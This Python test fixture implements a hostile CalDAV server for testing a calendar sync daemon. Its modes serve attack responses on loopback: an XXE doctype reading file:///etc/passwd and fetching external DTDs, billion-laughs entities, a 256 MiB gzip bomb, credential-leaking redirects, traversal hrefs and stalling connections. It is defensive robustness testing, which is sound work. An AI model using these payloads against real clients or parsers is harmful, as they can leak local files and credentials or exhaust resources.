"""A hostile CalDAV server, and a second origin that records whatever reaches it.

    other = OtherOrigin().start()               # "another host": records every request
    srv = HostileDav("gzip-bomb", other).start()
    srv.add_collection("work", "Work", items=3)
    acc = srv.account("test")                   # a config account for davsyncd
    ...
    srv.requests                                # every request, with its headers
    other.requests                              # must stay empty in most modes
    srv.stop(); other.stop()

Outside the one attack its `mode` names, HostileDav is a minimal but
realistic CalDAV server (RFC 4791, RFC 6578): the account URL "/" answers a
PROPFIND with its principal /p/, the principal names the calendar home /cal/,
a Depth-1 PROPFIND of the home lists the calendars, and each calendar answers
a Depth-0 PROPFIND (sync-token, getctag), a Depth-1 PROPFIND of etags, the
sync-collection, calendar-query and calendar-multiget REPORTs, GET, PUT and
DELETE. Every answer is built as bytes, so that a mode can put invalid UTF-8
or anything else anywhere. A mode is a method `_mode_<name>(req)` that sees
each request first and returns True when it answered it itself.

Modes (the tests in test_hostile.py, one per attack):
  normal                 no attack
  redirect-NNN           the principal PROPFIND (or those of the paths in `at`)
                         is redirected (NNN = 301, 302, 307, 308) to the
                         same path on the other origin (or to `target`)
  hostile-names          display name and description with U+FDD0, U+FFFE
                         and invalid UTF-8
  gzip-bomb              the calendar-query answer is Content-Encoding: gzip,
                         256 KiB on the wire and 256 MiB inflated
  runaway-507            sync-collection with a token always answers 507 with
                         a new token (fresh=True: each page one new href;
                         armed=False holds the attack back until set)
  push-location          WebDAV-Push advertised; registration answers 201
                         with a Location on the other origin
  quadratic              a home listing whose root carries `ns_attrs` namespace
                         attributes; a calendar-query answer whose every
                         response declares `ns_each` namespaces
  traversal              hrefs and UIDs that try to leave the folder
  xxe                    external entities (a local file, the other origin)
                         and billion laughs in the home listing
  trickle                the calendar-query answer trickles one byte a second
  mute                   the calendar-query is read and never answered
  redirect-loop          the principal PROPFIND redirects to itself, forever
  auth-loop              every request gets 401 (auth_scheme Basic or Digest)
  retry-after            every request gets 503 with Retry-After: retry_after
  garbage                the principal PROPFIND gets `garbage` raw bytes, then
                         the connection is closed
  vanish                 like normal; vanish() empties every collection
  huge-length            the calendar-query gets a 10 GB Content-Length and
                         the connection is closed
  bad-utf8               invalid UTF-8 in hrefs, etags, tokens, names and bodies
"""

from __future__ import annotations

import io
import re
import socket
import ssl
import threading
import time
import urllib.parse
import zlib
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Optional

NS_PUSH = "https://bitfire.at/webdav-push"
XML_HEAD = b'<?xml version="1.0" encoding="utf-8"?>\n'


def xesc(b: bytes) -> bytes:
    """XML-escapes bytes (leaving any invalid UTF-8 in place)."""
    return b.replace(b"&", b"&amp;").replace(b"<", b"&lt;").replace(b">", b"&gt;")


def event(uid: bytes, summary: bytes = b"Event") -> bytes:
    return (b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//davtest//hostile//EN\r\nBEGIN:VEVENT\r\n"
            b"UID:" + uid + b"\r\nDTSTAMP:20240101T000000Z\r\nDTSTART:20240102T100000Z\r\n"
            b"DTEND:20240102T110000Z\r\nSUMMARY:" + summary + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")


@dataclass
class RequestRecord:
    method: str
    path: str
    headers: dict
    body: bytes
    at: float

    @property
    def authorization(self) -> Optional[str]:
        return next((v for k, v in self.headers.items() if k.lower() == "authorization"), None)


@dataclass
class Item:
    href: bytes          # as it appears in the XML (absolute path, or anything hostile)
    etag: bytes          # with its quotes
    body: bytes


@dataclass
class Collection:
    name: str            # path segment under /cal/
    displayname: bytes   # raw bytes, put into the XML escaped but otherwise as they are
    description: bytes = b""
    items: list[Item] = field(default_factory=list)
    deleted: list[bytes] = field(default_factory=list)   # hrefs, reported as 404 to a sync token
    version: int = 1

    @property
    def path(self) -> str:
        return f"/cal/{self.name}/"

    def token(self) -> bytes:
        return f"http://hostile.invalid/sync/{self.name}/{self.version}".encode()


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "hostile/1"

    def log_message(self, *args) -> None:  # quiet
        pass

    def _any(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        self.server.owner._dispatch(self, body)

    do_GET = do_PUT = do_DELETE = do_POST = do_OPTIONS = do_PROPFIND = do_REPORT = _any
    do_PROPPATCH = do_MKCOL = do_MKCALENDAR = do_MOVE = do_HEAD = _any


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, owner):
        self.owner = owner
        super().__init__(("127.0.0.1", 0), _Handler)


class Recording:
    """Base of both servers: a threaded HTTP server on a free loopback port
    that records every request with its headers."""

    def __init__(self):
        self.requests: list[RequestRecord] = []
        self._lock = threading.Lock()
        self._httpd = _Server(self)
        self._thread: Optional[threading.Thread] = None
        self.stopping = threading.Event()

    @property
    def port(self) -> int:
        return self._httpd.server_address[1]

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self):
        self._thread = threading.Thread(target=self._httpd.serve_forever, daemon=True)
        self._thread.start()
        return self

    def stop(self) -> None:
        self.stopping.set()
        self._httpd.shutdown()
        self._httpd.server_close()
        if self._thread:
            self._thread.join(5)

    def _record(self, h: BaseHTTPRequestHandler, body: bytes) -> RequestRecord:
        rec = RequestRecord(h.command, h.path, dict(h.headers.items()), body, time.monotonic())
        with self._lock:
            self.requests.append(rec)
        return rec

    def count(self, method: Optional[str] = None) -> int:
        with self._lock:
            return sum(1 for r in self.requests if method is None or r.method == method)

    def authorizations(self) -> list[str]:
        with self._lock:
            return [r.authorization for r in self.requests if r.authorization]

    @staticmethod
    def send(h: BaseHTTPRequestHandler, status: int, body: bytes = b"", headers: Optional[dict] = None,
             content_type: Optional[str] = "application/xml; charset=utf-8") -> None:
        h.send_response(status)
        hdrs = dict(headers or {})
        if content_type and body and "Content-Type" not in hdrs:
            hdrs["Content-Type"] = content_type
        hdrs.setdefault("Content-Length", str(len(body)))
        for k, v in hdrs.items():
            h.send_header(k, v)
        h.end_headers()
        if body and h.command != "HEAD":
            h.wfile.write(body)


class OtherOrigin(Recording):
    """Another origin: answers 200 (an empty multistatus to PROPFIND/REPORT,
    204 to DELETE) and records every request and Authorization header."""

    def _dispatch(self, h, body: bytes) -> None:
        self._record(h, body)
        if h.command in ("PROPFIND", "REPORT"):
            self.send(h, 207, XML_HEAD + b'<D:multistatus xmlns:D="DAV:"/>')
        elif h.command == "DELETE":
            self.send(h, 204)
        else:
            self.send(h, 200, b"other origin\n", content_type="text/plain")


def _prop_response(href: bytes, props: bytes, status: bytes = b"HTTP/1.1 200 OK") -> bytes:
    return (b"<D:response><D:href>" + href + b"</D:href><D:propstat><D:prop>" + props +
            b"</D:prop><D:status>" + status + b"</D:status></D:propstat></D:response>")


def multistatus(responses: list[bytes], extra: bytes = b"", root_attrs: bytes = b"") -> bytes:
    return (XML_HEAD + b'<D:multistatus xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav" '
            b'xmlns:CS="http://calendarserver.org/ns/" xmlns:P="' + NS_PUSH.encode() + b'"' + root_attrs +
            b">" + b"".join(responses) + extra + b"</D:multistatus>")


class HostileDav(Recording):
    """The hostile CalDAV server (see the module docstring)."""

    user = "alice"
    password = "s3cret-hostile"

    def __init__(self, mode: str = "normal", other: Optional[OtherOrigin] = None, **opts):
        super().__init__()
        self.mode = mode
        self.other = other
        self.opts = opts
        self.collections: dict[str, Collection] = {}
        self.scheme = "http"
        if opts.get("tls"):
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            ctx.load_cert_chain(*map(str, opts["tls"]))
            self._httpd.socket = ctx.wrap_socket(self._httpd.socket, server_side=True)
            self.scheme = "https"

    @property
    def base_url(self) -> str:
        return f"{self.scheme}://127.0.0.1:{self.port}"

    # ------------------------------------------------------------ set-up

    @property
    def url(self) -> str:
        return self.base_url + "/"

    def account(self, account_id: str = "test", **extra) -> dict:
        acc = {"id": account_id, "url": self.url, "username": self.user, "password": self.password,
               "sync_interval": 3600}
        acc.update(extra)
        return acc

    def add_collection(self, name: str, displayname: bytes | str = b"", description: bytes = b"",
                       items: int = 0) -> Collection:
        if isinstance(displayname, str):
            displayname = displayname.encode()
        c = Collection(name, displayname or name.encode(), description)
        for i in range(items):
            self.add_item(c, f"item-{i}.ics".encode(), event(f"uid-{name}-{i}".encode(), f"Event {i}".encode()))
        self.collections[name] = c
        return c

    def add_item(self, c: Collection, name_or_href: bytes, body: bytes, etag: Optional[bytes] = None) -> Item:
        href = name_or_href if b"/" in name_or_href or b"://" in name_or_href else c.path.encode() + name_or_href
        it = Item(href, etag or b'"' + str(len(c.items) + 1).encode() + b'-' + str(c.version).encode() + b'"', body)
        c.items.append(it)
        c.version += 1
        return it

    def vanish(self) -> None:
        """Every item of every collection disappears, with a new token."""
        with self._lock:
            for c in self.collections.values():
                c.deleted += [it.href for it in c.items]
                c.items.clear()
                c.version += 1

    def requests_of(self, method: str, path_prefix: str = "") -> list[RequestRecord]:
        with self._lock:
            return [r for r in self.requests if r.method == method and r.path.startswith(path_prefix)]

    # ------------------------------------------------------------ dispatch

    def _dispatch(self, h, body: bytes) -> None:
        req = self._record(h, body)
        hook = getattr(self, "_mode_" + self.mode.split("-")[0].replace("-", "_"), None)
        try:
            if hook is not None and hook(h, req):
                return
            self._normal(h, req)
        except (BrokenPipeError, ConnectionResetError):
            h.close_connection = True

    def _normal(self, h, req: RequestRecord) -> None:
        path = urllib.parse.urlsplit(req.path).path
        m = req.method
        if m == "OPTIONS":
            dav = "1, 2, 3, calendar-access, extended-mkcol"
            if self.mode == "push-location":
                dav += ", webdav-push"
            return self.send(h, 200, headers={"DAV": dav, "Allow": "OPTIONS, GET, PUT, DELETE, PROPFIND, REPORT, POST"})
        if m == "PROPFIND":
            return self.send(h, 207, self.propfind(path, h.headers.get("Depth", "0"), req.body))
        coll = self._collection_of(path)
        if m == "REPORT" and coll is not None:
            return self.send(h, 207, self.report(coll, req.body))
        if m == "GET" and coll is not None:
            it = self._item_at(coll, path)
            if it is None:
                return self.send(h, 404, b"not found\n", content_type="text/plain")
            return self.send(h, 200, it.body, {"ETag": it.etag.decode("latin-1")},
                             content_type="text/calendar; charset=utf-8")
        if m == "PUT" and coll is not None:
            with self._lock:
                it = self._item_at(coll, path)
                if it is None:
                    it = self.add_item(coll, path.encode(), req.body)
                else:
                    it.body = req.body
                    coll.version += 1
                it.etag = f'"put-{coll.version}"'.encode()
            return self.send(h, 201, headers={"ETag": it.etag.decode()})
        if m == "DELETE" and coll is not None:
            with self._lock:
                it = self._item_at(coll, path)
                if it is not None:
                    coll.items.remove(it)
                    coll.deleted.append(it.href)
                    coll.version += 1
            return self.send(h, 204 if it else 404)
        self.send(h, 404, b"not found\n", content_type="text/plain")

    def _collection_of(self, path: str) -> Optional[Collection]:
        for c in self.collections.values():
            if path.startswith(c.path):
                return c
        return None

    @staticmethod
    def _item_at(c: Collection, path: str) -> Optional[Item]:
        want = urllib.parse.unquote_to_bytes(path)
        for it in c.items:
            if urllib.parse.unquote_to_bytes(urllib.parse.urlsplit(it.href).path) == want:
                return it
        return None

    # ------------------------------------------------------------ PROPFIND

    def principal_props(self) -> bytes:
        return (b"<D:current-user-principal><D:href>/p/</D:href></D:current-user-principal>"
                b"<D:resourcetype><D:principal/></D:resourcetype>"
                b"<C:calendar-home-set><D:href>/cal/</D:href></C:calendar-home-set>")

    def collection_props(self, c: Collection) -> bytes:
        props = (b"<D:resourcetype><D:collection/><C:calendar/></D:resourcetype>"
                 b"<D:displayname>" + xesc(c.displayname) + b"</D:displayname>"
                 b"<C:supported-calendar-component-set><C:comp name=\"VEVENT\"/></C:supported-calendar-component-set>"
                 b"<D:supported-report-set><D:supported-report><D:report><D:sync-collection/></D:report>"
                 b"</D:supported-report><D:supported-report><D:report><C:calendar-multiget/></D:report>"
                 b"</D:supported-report></D:supported-report-set>"
                 b"<D:current-user-privilege-set><D:privilege><D:all/></D:privilege>"
                 b"<D:privilege><D:read/></D:privilege><D:privilege><D:write/></D:privilege>"
                 b"</D:current-user-privilege-set>")
        if c.description:
            props += b"<C:calendar-description>" + xesc(c.description) + b"</C:calendar-description>"
        if self.mode == "push-location":
            props += (b"<P:transports><P:web-push/></P:transports><P:topic>topic-" + c.name.encode() +
                      b"</P:topic><P:supported-triggers><P:content-update><D:depth>1</D:depth>"
                      b"</P:content-update></P:supported-triggers>")
        return props

    def home_listing(self) -> list[bytes]:
        out = [_prop_response(b"/cal/", b"<D:resourcetype><D:collection/></D:resourcetype>")]
        for c in self.collections.values():
            out.append(_prop_response(c.path.encode(), self.collection_props(c)))
        return out

    def propfind(self, path: str, depth: str, body: bytes) -> bytes:
        if path in ("/", "/.well-known/caldav", "/.well-known/carddav", "/p/"):
            return multistatus([_prop_response(path.encode(), self.principal_props())])
        if path == "/cal/":
            return multistatus(self.home_listing() if depth != "0" else self.home_listing()[:1])
        c = self._collection_of(path)
        if c is None:
            return multistatus([_prop_response(path.encode(), b"", b"HTTP/1.1 404 Not Found")])
        with self._lock:
            if depth == "0":
                props = self.collection_props(c) + (b"<D:sync-token>" + xesc(c.token()) + b"</D:sync-token>"
                                                    b"<CS:getctag>" + str(c.version).encode() + b"</CS:getctag>")
                return multistatus([_prop_response(c.path.encode(), props)])
            out = [_prop_response(c.path.encode(), b"<D:resourcetype><D:collection/><C:calendar/></D:resourcetype>")]
            for it in c.items:
                out.append(_prop_response(xesc(it.href), b"<D:resourcetype/><D:getetag>" + xesc(it.etag) +
                                          b"</D:getetag>"))
            return multistatus(out)

    # ------------------------------------------------------------ REPORT

    def report(self, c: Collection, body: bytes) -> bytes:
        with self._lock:
            if b"sync-collection" in body[:300]:
                return self.sync_collection(c, body)
            if b"calendar-multiget" in body[:300]:
                wanted = {urllib.parse.unquote_to_bytes(self._unxml(m))
                          for m in re.findall(rb"<D:href>(.*?)</D:href>", body, re.S)}
                items = [it for it in c.items if urllib.parse.unquote_to_bytes(it.href) in wanted]
                found = {urllib.parse.unquote_to_bytes(it.href) for it in items}
                missing = [_prop_response(xesc(w), b"", b"HTTP/1.1 404 Not Found") for w in wanted - found]
                return multistatus([self._data_response(it) for it in items] + missing)
            return multistatus([self._data_response(it) for it in c.items])  # calendar-query

    @staticmethod
    def _unxml(b: bytes) -> bytes:
        return b.replace(b"&lt;", b"<").replace(b"&gt;", b">").replace(b"&amp;", b"&")

    @staticmethod
    def _data_response(it: Item) -> bytes:
        return _prop_response(xesc(it.href), b"<D:getetag>" + xesc(it.etag) + b"</D:getetag><C:calendar-data>" +
                              xesc(it.body) + b"</C:calendar-data>")

    def sync_collection(self, c: Collection, body: bytes) -> bytes:
        # Always the full state (a correct, if lazy, answer to any token),
        # and to a token every deletion ever made.
        out = [_prop_response(xesc(it.href), b"<D:getetag>" + xesc(it.etag) + b"</D:getetag>") for it in c.items]
        if b"<D:sync-token/>" not in body:
            out += [b"<D:response><D:href>" + xesc(h) + b"</D:href><D:status>HTTP/1.1 404 Not Found</D:status>"
                    b"</D:response>" for h in c.deleted]
        return multistatus(out, b"<D:sync-token>" + xesc(c.token()) + b"</D:sync-token>")

    # ------------------------------------------------------------ modes

    def _is_collection_report(self, req: RequestRecord, kind: bytes) -> bool:
        return req.method == "REPORT" and kind in req.body[:300] and req.path.startswith("/cal/") \
            and req.path != "/cal/"

    def _mode_redirect(self, h, req) -> bool:
        # redirect-301 ... redirect-308; redirect-loop: to itself, with a counter
        if self.mode == "redirect-loop":
            if req.method == "PROPFIND" and req.path.startswith("/p/"):
                n = int(req.path.rpartition("=")[2]) + 1 if "=" in req.path else 1
                self.send(h, 302, b"", {"Location": f"{self.base_url}/p/?hop={n % 2}"})
                return True
            return False
        if req.method == "PROPFIND" and req.path in self.opts.get("at", ("/p/",)):
            status = int(self.mode.split("-")[1])
            target = self.opts.get("target") or self.other.base_url + req.path
            self.send(h, status, b"moved\n", {"Location": target}, content_type="text/plain")
            return True
        return False

    def _mode_gzip(self, h, req) -> bool:
        if not self._is_collection_report(req, b"calendar-query"):
            return False
        bomb = gzip_bomb(self.opts.get("inflated", 256 << 20))
        self.send(h, 207, bomb, {"Content-Encoding": "gzip"})
        return True

    def _mode_runaway(self, h, req) -> bool:
        if not self._is_collection_report(req, b"sync-collection") or b"<D:sync-token/>" in req.body:
            return False
        if b"<D:sync-token>" not in req.body or not self.opts.get("armed", True):
            return False
        c = self._collection_of(req.path)
        with self._lock:
            c.version += 1
            out = [_prop_response(xesc(it.href), b"<D:getetag>" + xesc(it.etag) + b"</D:getetag>") for it in c.items]
            if self.opts.get("fresh"):
                out.append(_prop_response(c.path.encode() + b"fresh-%d.ics" % c.version,
                                          b'<D:getetag>"f%d"</D:getetag>' % c.version))
            out.append(b"<D:response><D:href>" + c.path.encode() + b"</D:href>"
                       b"<D:status>HTTP/1.1 507 Insufficient Storage</D:status></D:response>")
            body = multistatus(out, b"<D:sync-token>" + xesc(c.token()) + b"</D:sync-token>")
        self.send(h, 207, body)
        return True

    def _mode_push(self, h, req) -> bool:
        if req.method != "POST":
            return False
        loc = self.other.base_url + "/subscriptions/evil-1"
        expires = time.strftime("%a, %d %b %Y %H:%M:%S GMT", time.gmtime(time.time() + 7 * 86400))
        self.send(h, 201, b"", {"Location": loc, "Expires": expires})
        return True

    def _mode_quadratic(self, h, req) -> bool:
        if req.method == "PROPFIND" and req.path == "/cal/" and self.opts.get("ns_attrs"):
            attrs = b"".join(b' xmlns:n%d="urn:x-hostile:%d"' % (i, i) for i in range(self.opts["ns_attrs"]))
            self.send(h, 207, multistatus(self.home_listing(), root_attrs=attrs))
            return True
        if self._is_collection_report(req, b"calendar-query") and self.opts.get("ns_each"):
            # Every response element declares its own namespaces, and uses
            # the last prefix: resolving it walks every declaration.
            n = self.opts["ns_each"]
            attrs = b"".join(b' xmlns:n%d="urn:x-hostile:%d"' % (i, i) for i in range(n))
            out = []
            for it in self._collection_of(req.path).items:
                r = self._data_response(it)
                r = r.replace(b"<D:response>", b"<D:response" + attrs + b">", 1)
                r = r.replace(b"</D:prop>", b"<n%d:x/></D:prop>" % (n - 1), 1)
                out.append(r)
            self.send(h, 207, multistatus(out))
            return True
        return False

    def _mode_xxe(self, h, req) -> bool:
        if req.method == "PROPFIND" and req.path == "/cal/":
            lol = b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1)) * 10) for i in range(1, 10))
            dtd = (b'<!DOCTYPE D:multistatus [<!ENTITY lol0 "lol"><!ENTITY file SYSTEM "file:///etc/passwd">'
                   b'<!ENTITY remote SYSTEM "' + self.other.base_url.encode() + b'/xxe.dtd">' + lol +
                   b'<!ENTITY % pe SYSTEM "' + self.other.base_url.encode() + b'/pe.dtd"> %pe;]>')
            c = next(iter(self.collections.values()))
            props = self.collection_props(c).replace(
                b"<D:displayname>" + xesc(c.displayname) + b"</D:displayname>",
                b"<D:displayname>X&file;&remote;&lol9;</D:displayname>")
            body = multistatus([_prop_response(b"/cal/", b"<D:resourcetype><D:collection/></D:resourcetype>"),
                                _prop_response(c.path.encode(), props)])
            body = XML_HEAD + dtd + body[len(XML_HEAD):]
            self.send(h, 207, body)
            return True
        return False

    def _stall(self, h) -> None:
        """Holds the connection until stop(), answering nothing."""
        while not self.stopping.wait(0.2):
            pass

    def _mode_trickle(self, h, req) -> bool:
        if not self._is_collection_report(req, b"calendar-query"):
            return False
        body = multistatus([self._data_response(it) for it in self._collection_of(req.path).items])
        head = (b"HTTP/1.1 207 Multi-Status\r\nContent-Type: application/xml\r\nContent-Length: %d\r\n\r\n"
                % len(body))
        for b in head + body:
            if self.stopping.wait(1.0):
                return True
            h.wfile.write(bytes([b]))
            h.wfile.flush()
        return True

    def _mode_mute(self, h, req) -> bool:
        if not self._is_collection_report(req, b"calendar-query"):
            return False
        self._stall(h)
        return True

    def _mode_auth(self, h, req) -> bool:
        scheme = self.opts.get("auth_scheme", "Basic")
        challenge = ('Basic realm="hostile"' if scheme == "Basic" else
                     'Digest realm="hostile", qop="auth", nonce="%d", opaque="x", stale=true' % len(self.requests))
        self.send(h, 401, b"no\n", {"WWW-Authenticate": challenge}, content_type="text/plain")
        return True

    def _mode_retry(self, h, req) -> bool:
        self.send(h, 503, b"busy\n", {"Retry-After": self.opts["retry_after"]}, content_type="text/plain")
        return True

    def _raw_and_close(self, h, data: bytes) -> None:
        h.wfile.write(data)
        h.wfile.flush()
        h.close_connection = True
        try:
            h.connection.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass

    def _mode_garbage(self, h, req) -> bool:
        if req.method == "PROPFIND" and req.path == "/p/":
            self._raw_and_close(h, self.opts["garbage"])
            return True
        return False

    def _mode_huge(self, h, req) -> bool:
        if not self._is_collection_report(req, b"calendar-query"):
            return False
        self._raw_and_close(h, b"HTTP/1.1 207 Multi-Status\r\nContent-Type: application/xml\r\n"
                               b"Content-Length: 10737418240\r\n\r\n" + XML_HEAD + b"<D:multistatus")
        return True


_BOMBS: dict[int, bytes] = {}


def gzip_bomb(inflated: int) -> bytes:
    """A gzip stream of `inflated` bytes of spaces (whitespace inside the
    XML root: a parser that got that far would take it as valid)."""
    if inflated not in _BOMBS:
        buf = io.BytesIO()
        z = zlib.compressobj(9, zlib.DEFLATED, 31)
        buf.write(z.compress(XML_HEAD + b'<D:multistatus xmlns:D="DAV:">'))
        chunk = b" " * (1 << 20)
        for _ in range(inflated >> 20):
            buf.write(z.compress(chunk))
        buf.write(z.compress(b"</D:multistatus>"))
        buf.write(z.flush())
        _BOMBS[inflated] = buf.getvalue()
    return _BOMBS[inflated]


__all__ = ["HostileDav", "OtherOrigin", "Collection", "Item", "event", "gzip_bomb", "multistatus"]
